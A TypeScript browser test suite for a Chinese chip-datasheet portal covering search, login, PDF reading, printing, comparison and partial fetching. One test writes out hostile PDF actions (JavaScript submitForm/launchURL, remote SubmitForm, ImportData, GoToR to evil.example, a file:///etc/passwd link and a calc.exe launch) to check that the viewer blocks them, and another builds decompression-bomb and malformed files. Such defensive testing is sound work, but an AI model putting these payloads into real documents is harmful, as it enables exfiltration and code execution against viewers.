import { mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { expect, test } from "vitest";
import { logInThrough, openBrowser, useJourney, visit } from "./browser.ts";
import { type BuiltDocument, type BuiltHeading, buildPdf, FIRST_OWN_OBJECT, stream } from "./build-pdf.ts";
import { DEVICE, logIn } from "./log-in.ts";
import { startProgram } from "./portal-process.ts";

const journey = useJourney();

test("an engineer types a part number, opens it, reads its datasheet in the page and saves it", async () => {
  const { page, portal } = journey;
  await visit(page, portal.address);
  const box = page.getByRole("combobox", { name: "查型号" });
  await box.pressSequentially("stm32f103c8");
  await page
    .getByRole("option", { name: /STM32F103C8T6/ })
    .first()
    .click();

  await page.getByRole("heading", { level: 1, name: "STM32F103C8T6" }).waitFor();
  expect(await page.title()).toMatch(/^STM32F103C8T6 .*规格书 PDF 下载/);
  await page.getByRole("link", { name: "阅读样例" }).click();

  // Reading asks for login, and goes on where it was.
  await page.waitForURL(/\/specification\/specification_detail\/\d+/);
  await logInThrough(page);
  await page.locator(".textLayer").first().getByText("STM32F103C8T6").first().waitFor();
  await page.getByRole("button", { name: "下一页" }).click();
  await page.waitForURL(/#page=2/);

  // Who comes by a click has chosen nothing on the page yet: its keys are those of the document.
  await page.goBack();
  await page.getByRole("heading", { level: 1, name: "STM32F103C8T6" }).waitFor();
  await page.getByRole("link", { name: "阅读样例" }).click();
  await page.locator(".textLayer").first().getByText("STM32F103C8T6").first().waitFor();
  await page.keyboard.press("ArrowRight");
  await page.waitForURL(/#page=2/);

  const saved = page.waitForEvent("download");
  await page
    .getByRole("link", { name: "下载" })
    .or(page.getByRole("button", { name: "下载" }))
    .first()
    .click();
  const download = await saved;
  expect(download.suggestedFilename()).toMatch(/STM32F103C8T6.*\.pdf$/);
  expect((await readFile(await download.path())).subarray(0, 5).toString()).toBe("%PDF-");
});

test("several datasheets are saved as one zip, and none asks for a choice", async () => {
  const { page, portal } = journey;
  await visit(page, `${portal.address}/specification/STM32F103`);
  await page.getByRole("button", { name: /打包下载/ }).click();
  await page.getByText("请选择文件").first().waitFor();
  for (const choice of (await page.getByRole("checkbox").all()).slice(0, 2)) await choice.check();
  const saved = page.waitForEvent("download");
  await page.getByRole("button", { name: /打包下载/ }).click();
  await logInThrough(page);
  const download = await saved;
  expect(download.suggestedFilename()).toMatch(/spec\.zip$/);
  expect((await readFile(await download.path())).subarray(0, 2).toString()).toBe("PK");
});

test("the search box is worked by keyboard alone, and remembers", async () => {
  const { page, portal } = journey;
  await visit(page, portal.address);
  await page.keyboard.press("/");
  await page.keyboard.type("lm358");
  await page.getByRole("option").first().waitFor();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Escape");
  await page.keyboard.press("Enter");
  await page.waitForURL(/\/specification\/lm358/i);
  await page.getByRole("heading", { level: 1, name: /lm358/i }).waitFor();
  await page.goBack();
  await page.getByRole("heading", { level: 1, name: "芯片规格书查询与下载" }).waitFor();
  await page.getByRole("combobox", { name: "查型号" }).click();
  await page.getByRole("option", { name: /lm358/i }).waitFor();
});

test("an unknown address says so, counts down and leads home, and the way back leads past it", async () => {
  const { page, portal } = journey;
  await visit(page, `${portal.address}/specification/LM358`);
  const response = await page.goto(`${portal.address}/no/such/page`);
  expect(response?.status()).toBe(404);
  await page.getByRole("heading", { name: "页面不存在" }).waitFor();
  expect(await page.getByText(/已从这个星球上消失/).count()).toBe(1);
  await page.waitForURL(`${portal.address}/`);
  await page.goBack();
  await page.waitForURL(`${portal.address}/specification/LM358`);
  // The browser itself reports the 404 of the document.
  journey.complaints = journey.complaints.filter((complaint) => !complaint.includes("404"));
});

test("a navigation brings the keyboard and the title of the page, but not to who is typing", async () => {
  const { page, portal } = journey;
  const focused = () => page.evaluate(() => document.activeElement?.tagName);
  await visit(page, `${portal.address}/specification/LM358`);
  expect(await focused()).toBe("BODY");
  await page.getByRole("link", { name: "LM358P", exact: true }).click();
  await page
    .getByRole("status")
    .filter({ hasText: /^LM358P .*芯谱$/ })
    .waitFor({ state: "attached" });
  expect(await focused()).toBe("MAIN");

  let release = () => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route("**/api/chip/specification/search*", async (route) => {
    await held;
    await route.continue();
  });
  await page.getByRole("link", { name: "NE555", exact: true }).first().click();
  await page.locator("main[aria-busy=true]").waitFor();
  await page.getByRole("combobox", { name: "查型号" }).pressSequentially("x");
  release();
  await page.getByRole("heading", { level: 1, name: "NE555" }).waitFor();
  await page.locator("main:not([aria-busy])").waitFor();
  expect(await focused()).toBe("INPUT");
});

test("the address of the viewer names the page that is shown, whatever it named before; on a phone its tools stand in one row", async () => {
  const { page, portal } = journey;
  await page.setViewportSize({ width: 390, height: 800 });
  await visit(page, `${portal.address}/specification/specification_detail/1#page=999999`);
  await logInThrough(page);
  await page.locator(".textLayer").first().waitFor();
  const pageCount = Number(/\d+/.exec((await page.locator(".pdf-page-total").textContent())!)![0]);
  await page.waitForURL(new RegExp(`#page=${pageCount}$`));
  await page.evaluate(() => (location.hash = "#page=-1"));
  await page.waitForURL(/#page=1$/);
  const tops = await page
    .locator(".pdf-toolbar-group")
    .evaluateAll((groups) => groups.map((group) => group.getBoundingClientRect().top));
  expect(Math.max(...tops) - Math.min(...tops)).toBeLessThan(10);
});

test("everything that is read is there without JavaScript", async () => {
  const { portal } = journey;
  const withoutScripts = await openBrowser({ hasScripts: false });
  const plain = await withoutScripts.newPage();
  await plain.goto(`${portal.address}/specification/STM32F103C8T6`);
  expect(await plain.getByRole("link", { name: "STM32F103C8T6" }).count()).toBeGreaterThan(0);
  await plain.getByRole("link", { name: "STM32F103C8T6" }).first().click();
  await expect.poll(() => plain.getByText("72 MHz").count()).toBeGreaterThan(0);
  await withoutScripts.close();
});

/** A document is opened and drawn by a busy machine too. */
const PATIENT = { timeout: 60_000 };

/** Reads a document of the portal, in the place of its own bytes those that are given. */
async function read(documents: Record<number, BuiltDocument | Buffer>, address: string) {
  const { page, portal } = journey;
  const data = await logIn(portal, "13800000001");
  await page.context().addCookies(
    Object.entries({ token: data.token, uuid: DEVICE }).map(([name, value]) => ({
      name,
      value,
      url: portal.address,
    })),
  );
  await page.addInitScript((login) => localStorage.setItem("loginInfo", login), JSON.stringify(data));
  for (const [id, document] of Object.entries(documents)) {
    const body = Buffer.isBuffer(document) ? document : buildPdf(document);
    await page.route(`**/api/spec/v1/file/${id}`, (route) => route.fulfill({ body, contentType: "application/pdf" }));
  }
  await visit(page, `${portal.address}/specification/specification_detail/${address}`);
}

const pagesWith = (count: number, line: (page: number) => string) =>
  Array.from({ length: count }, (_, index) => ({ lines: [line(index + 1)] }));
const contents = (...entries: [string, number][]): BuiltHeading[] => entries.map(([title, page]) => ({ title, page }));
const scrolled = (viewer: number) =>
  journey.page
    .locator(".pdf-scroll")
    .nth(viewer)
    .evaluate((element) => element.scrollTop);
const pageField = (viewer = 0) => journey.page.getByRole("textbox", { name: "页码" }).nth(viewer);

test("an address that names a page and words opens there with the words marked, and the reader goes on from word to word, heading to heading, page to page", async () => {
  const { page } = journey;
  const pages = Array.from({ length: 60 }, (_, index) => ({
    lines: [`Page ${index + 1}`, index % 20 === 5 ? "R DS (on) = 5 mOhm at 3.3 V" : "nothing"],
  }));
  const outline = [
    { title: "1 特性", page: 1 },
    {
      title: "2 引脚",
      page: 10,
      children: [{ title: "2.1 说明", page: 11, children: [{ title: "2.1.1 电源", page: 12 }] }],
    },
    { title: "3 封装", page: 40 },
  ];
  await read({ 1: { pages, outline } }, `1#page=26&q=${encodeURIComponent("rds(on) 3.3V")}`);
  const marks = page.locator(".textLayer .highlight");
  await page.locator(".textLayer .highlight.selected", { hasText: "R DS (on)" }).waitFor();
  expect(await page.locator("[data-page-number='26'] .highlight").allTextContents()).toEqual(["R DS (on)", "3.3 V"]);
  await page.getByText("3 / 6", { exact: true }).waitFor();
  const words = page.getByRole("textbox", { name: "查找的文字" });
  expect(await words.inputValue()).toBe("rds(on) 3.3V");
  await words.press("Enter");
  await words.press("Enter");
  await page.waitForURL(/#page=46&q=/);
  await page.getByText("5 / 6", { exact: true }).waitFor();
  await words.press("Shift+Enter");
  await page.waitForURL(/#page=26&q=/);
  await words.press("Escape");
  await marks.first().waitFor({ state: "detached" });
  await page.waitForURL(/#page=26$/);

  // Keys belong to the document now.
  await page.keyboard.press("Home");
  await page.waitForURL(/#page=1$/);
  await page.keyboard.press("ArrowRight");
  await page.waitForURL(/#page=2$/);
  await page.keyboard.press("t");
  const thumbnails = page.getByRole("group", { name: "页面缩略图" });
  await thumbnails.locator("canvas").first().waitFor();
  // Those far away are not drawn, nor even there.
  expect(await thumbnails.getByRole("button").count()).toBeLessThan(30);
  await thumbnails.getByRole("button", { name: "第 4 页", exact: true }).click();
  await page.waitForURL(/#page=4$/);
  await page.getByRole("button", { name: "目录", exact: true }).click();
  const list = page.getByRole("group", { name: "目录" });
  await list.getByRole("button", { name: "3 封装" }).click();
  await page.waitForURL(/#page=40$/);
  await list.locator("[aria-current]", { hasText: "3 封装" }).waitFor();
  expect(await list.getByText("2.1.1 电源").count()).toBe(0);
  await list.getByRole("button", { name: "展开 2.1 说明" }).click();
  await list.getByRole("button", { name: "2.1.1 电源" }).click();
  await page.waitForURL(/#page=12$/);

  const sheet = page.locator("[data-page-number='12']");
  const isUpright = () => sheet.evaluate((element) => element.clientHeight > element.clientWidth);
  expect(await isUpright()).toBe(true);
  await page.getByRole("group", { name: "规格书阅读：页面" }).focus();
  await page.keyboard.press("r");
  await expect.poll(isUpright, PATIENT).toBe(false);
  await page.getByRole("textbox", { name: "缩放比例" }).fill("150%");
  await page.getByRole("textbox", { name: "缩放比例" }).press("Enter");
  await expect.poll(() => page.getByRole("textbox", { name: "缩放比例" }).inputValue(), PATIENT).toBe("150%");

  // The panel is there again the next time, as it was left.
  await page.reload();
  await list.getByRole("button", { name: "1 特性" }).waitFor();
}, 300_000);

test("the pages that are asked for are printed, and not the page around them", async () => {
  const { page } = journey;
  await read({ 1: { pages: pagesWith(9, (number) => `Page ${number}`) } }, "1");
  await page.locator(".textLayer").first().waitFor();
  await page.evaluate(() => (window.print = () => document.body.setAttribute("data-printed", "")));
  await page.getByRole("button", { name: "打印" }).click();
  const range = page.getByRole("dialog").getByRole("textbox", { name: "页码" });
  await range.fill("0-99");
  await page.getByText("请输入 1 到 9 之间的页码").waitFor();
  await range.fill("2-3, 9");
  await range.press("Enter");
  await page.locator("body[data-printed]").waitFor();
  const printed = (await page.pdf()).toString("latin1");
  expect(printed.match(/\/Type \/Page\b/g)).toHaveLength(3);
  await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
  expect(await page.locator(".pdf-print").count()).toBe(0);
});

test("two datasheets stand side by side and move together, by the headings that both have, until they are let go", async () => {
  const { page, portal } = journey;
  const left = {
    pages: pagesWith(20, (number) => `Left ${number}`),
    outline: contents(["1 特性", 1], ["2 引脚说明", 5], ["3 封装", 15]),
  };
  const right = {
    pages: pagesWith(30, (number) => `Right ${number}`),
    outline: contents(["特性", 1], ["4 引脚 说明", 9], ["8 封装", 25]),
  };
  await read({ 1: left, 2: right }, "1");
  await page.locator(".textLayer").first().waitFor();
  await page.getByRole("button", { name: "对照阅读" }).click();
  const picker = page.getByRole("dialog", { name: "选择对照的规格书" });
  await picker.getByRole("searchbox").fill("lm358");
  const choice = picker.locator("a[href*='with=']").first();
  await choice.waitFor();
  await page.goto(`${portal.address}/specification/specification_detail/1?with=2#page=1`);
  await page.getByText("按相同的标题对齐").waitFor();
  await pageField(0).fill("15");
  await pageField(0).press("Enter");
  await page.waitForURL(/#page=15&page2=25$/);
  await pageField(1).fill("9");
  await pageField(1).press("Enter");
  await page.waitForURL(/#page=5&page2=9$/);

  await page.getByRole("button", { name: "联动滚动" }).click();
  await page.getByText("各自滚动").waitFor();
  const before = await scrolled(1);
  await pageField(0).fill("20");
  await pageField(0).press("Enter");
  await page.waitForURL(/page=20&page2=9&linked=0$/);
  expect(await scrolled(1)).toBe(before);

  await page.reload();
  await expect.poll(() => pageField(1).inputValue(), PATIENT).toBe("9");
  await expect.poll(() => pageField(0).inputValue(), PATIENT).toBe("20");
  await page.getByText("各自滚动").waitFor();
  await page.getByRole("link", { name: "关闭对照" }).click();
  await page.waitForURL(/specification_detail\/1#page=20$/);
  await expect.poll(() => page.locator(".pdf-viewer").count(), PATIENT).toBe(1);

  // Back and forth between them, as from any page.
  await page.goBack();
  await page.locator(".pdf-viewer[aria-busy=false]").nth(1).waitFor();
  await page.goForward();
  await expect.poll(() => page.locator(".pdf-viewer").count(), PATIENT).toBe(1);
  await page.locator(".pdf-viewer[aria-busy=false]").waitFor();
}, 300_000);

test("a PDF that would run, load or send something does nothing of the kind", async () => {
  const { page, portal } = journey;
  const asked: string[] = [];
  page.context().on("request", (request) => asked.push(request.url()));
  const script =
    "(app.alert\\('x'\\); this.submitForm\\('http://evil.example/form'\\); app.launchURL\\('http://evil.example/launch'\\);)";
  const actions = [
    "<< /S /URI /URI (https://maker.example/part) >>",
    `<< /S /JavaScript /JS ${script} >>`,
    "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "<< /S /URI /URI (file:///etc/passwd) >>",
    "<< /S /Launch /F (calc.exe) >>",
    "<< /S /GoToR /F (http://evil.example/other.pdf) /D [0 /Fit] >>",
    "<< /S /SubmitForm /F (http://evil.example/submit) >>",
    "<< /S /ImportData /F (http://evil.example/data.fdf) >>",
  ];
  await read(
    {
      1: {
        pages: [
          {
            lines: ["Hostile", "script", "address", "file", "launch", "remote", "submit", "import"],
            actions,
            resources: `/XObject << /Outside ${FIRST_OWN_OBJECT} 0 R >>`,
            drawing: "/Outside Do",
          },
        ],
        catalog: `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> /AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>`,
        objects: [
          stream(
            "",
            "/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (http://evil.example/picture.jpg) /FFilter /DCTDecode",
          ),
        ],
      },
    },
    "1",
  );
  await page.locator(".textLayer").getByText("Hostile").waitFor();
  const links = page.locator(".annotationLayer a");
  await links.first().waitFor({ state: "attached" });
  const addresses = await links.evaluateAll((found) =>
    found.map((link) => [link.getAttribute("href"), link.getAttribute("target"), link.getAttribute("rel")]),
  );
  expect(addresses).toContainEqual(["https://maker.example/part", "_blank", "noopener noreferrer nofollow"]);
  for (const [href] of addresses) expect(href ?? "").not.toMatch(/^(javascript|file|data|blob):|calc/);
  // What is no address outside leads nowhere.
  for (const link of await page.locator(".annotationLayer a:not([target=_blank])").all())
    await link.dispatchEvent("click");
  expect(asked.filter((address) => !address.startsWith(portal.address) && !/^(data|blob):/.test(address))).toEqual([]);
  expect(page.context().pages()).toEqual([page]);
});

test("files that are broken on purpose are told as such, or shown without what can't be", async () => {
  const { page, portal } = journey;
  const looped = buildPdf({ pages: [{ lines: ["Loop"] }] })
    .toString("latin1")
    .replace(/\/Kids \[\d+ 0 R\]/g, "/Kids [2 0 R ]");
  const whole = buildPdf({ pages: pagesWith(3, (number) => `Page ${number}`) });
  const bomb = {
    pages: [
      {
        lines: ["Bomb"],
        resources: `/XObject << /Bomb ${FIRST_OWN_OBJECT} 0 R >>`,
        drawing: "q 400 0 0 400 60 60 cm /Bomb Do Q",
      },
    ],
    objects: [
      stream(
        "",
        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
      ),
    ],
  };
  const endless = {
    pages: pagesWith(2, (number) => `Page ${number}`),
    outline: Array.from({ length: 30_000 }, (_, index) => ({ title: `标题 ${index} ${"长".repeat(60)}`, page: 1 })),
  };
  await read(
    {
      1: Buffer.from(looped, "latin1"),
      2: Buffer.from("<html>not a PDF</html>"),
      3: whole.subarray(0, whole.length - 400),
      4: bomb,
      5: endless,
    },
    "1",
  );
  await page.getByRole("alert").getByText("文件已损坏，无法显示").waitFor();
  await page.goto(`${portal.address}/specification/specification_detail/2`);
  await page.getByRole("alert").getByText("文件已损坏，无法显示").waitFor();
  await page.goto(`${portal.address}/specification/specification_detail/3`);
  await page.getByRole("alert").getByText("文件已损坏，无法显示").waitFor();
  await page.goto(`${portal.address}/specification/specification_detail/4`);
  await page.locator(".textLayer").getByText("Bomb").waitFor();
  await page.locator(".pdf-viewer[aria-busy=false]").waitFor();
  await page.goto(`${portal.address}/specification/specification_detail/5`);
  await page.getByRole("button", { name: "缩略图与目录" }).click();
  await page.getByRole("button", { name: "目录", exact: true }).click();
  await page.getByText("目录很长，只列出前 2,000 条").waitFor();
  journey.complaints = [];
});

test("Chinese characters of a font that the file does not embed are drawn, on a machine that has none", async () => {
  const { page } = journey;
  await read({ 1: { pages: [{ chinese: "热阻亍電" }] } }, "1");
  await page.locator(".textLayer").getByText("热阻亍電").waitFor();
  // How many different pictures the four characters give: boxes are all the same, and what is missing is blank.
  const pictures = () =>
    page
      .locator("[data-page-number='1'] canvas")
      .first()
      .evaluate((element) => {
        const canvas = element as HTMLCanvasElement;
        const size = (32 / 595) * canvas.width;
        const context = canvas.getContext("2d")!;
        const inks = [0, 1, 2, 3].map((index) => {
          const { data } = context.getImageData(
            (60 / 595) * canvas.width + index * size,
            (70 / 842) * canvas.height,
            size,
            1.2 * size,
          );
          return Array.from({ length: data.length / 4 }, (_, pixel) => (data[pixel * 4]! < 128 ? 1 : 0));
        });
        return inks.map((ink) => (ink.reduce<number>((sum, one) => sum + one, 0) > 40 ? ink.join("") : ""));
      });
  await expect.poll(async () => new Set((await pictures()).filter(Boolean)).size, PATIENT).toBe(4);
  // The browser advises against looking at what is drawn more than once, as this test does.
  journey.complaints.splice(
    0,
    journey.complaints.length,
    ...journey.complaints.filter((text) => !text.includes("willReadFrequently")),
  );
});

test("of a long datasheet only the parts that are shown are fetched", async () => {
  const { page, portal, environment } = journey;
  const files = path.join(environment.DATA_DIR, "..", "long");
  await mkdir(files);
  await writeFile(
    path.join(files, "LONG4M.pdf"),
    buildPdf({
      pages: Array.from({ length: 40 }, (_, index) => ({ lines: [`Page ${index + 1}`], weightBytes: 100_000 })),
    }),
  );
  const importer = startProgram("import", environment, { args: [files] });
  expect(await importer.ended).toBe(0);
  const newest = (await (await fetch(`${portal.address}/api/spec/v1/newest`)).json()) as {
    data: { data: { id: number; sizeBytes: number }[] };
  };
  const { id, sizeBytes } = newest.data.data.find((document) => document.sizeBytes > 4_000_000)!;
  const ranges: string[] = [];
  let received = 0;
  const devtools = await page.context().newCDPSession(page);
  await devtools.send("Network.enable");
  const requests = new Set<string>();
  devtools.on("Network.requestWillBeSent", ({ requestId, request }) => {
    if (!request.url.endsWith(`/file/${id}`)) return;
    requests.add(requestId);
    ranges.push(request.headers["range"] ?? request.headers["Range"] ?? "whole");
  });
  devtools.on(
    "Network.dataReceived",
    ({ requestId, dataLength }) => void (requests.has(requestId) && (received += dataLength)),
  );
  await read({}, String(id));
  await page.locator(".textLayer").getByText("Page 1").waitFor();
  await page.locator(".pdf-viewer[aria-busy=false]").waitFor();
  expect(ranges).not.toContain("whole");
  // What the page asks for before its scripts are there is what pdf.js opens.
  expect(ranges.slice(0, 2)).toEqual(["bytes=0-262143", "bytes=-1048576"]);
  expect(new Set(ranges).size).toBe(ranges.length);
  expect(received).toBeLessThan(sizeBytes / 2);
});
